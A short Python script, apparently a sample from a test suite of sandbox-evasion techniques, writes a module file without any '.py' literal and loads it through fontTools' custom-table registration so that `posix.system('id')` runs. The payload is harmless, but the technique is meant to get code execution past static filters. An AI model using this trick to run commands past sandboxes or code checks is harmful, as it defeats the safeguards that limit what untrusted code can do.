# class: second-stage | technique: module file named with os.extsep (no '.py' literal anywhere) then imported by fontTools.ttLib.registerCustomTableClass + getTableClass | effect: runs `id`
import os

from fontTools import ttLib

name = "zzcustomtable"
with open(name + os.extsep + "py", "w") as fh:
    fh.write(
        "import posix\n"
        "posix.system('id')\n"
        "from fontTools.ttLib.tables.DefaultTable import DefaultTable\n"
        "class table_Z_Z_Z_Z_(DefaultTable):\n"
        "    pass\n"
    )

ttLib.registerCustomTableClass("ZZZZ", name, "table_Z_Z_Z_Z_")
print("table class:", ttLib.getTableClass("ZZZZ"))
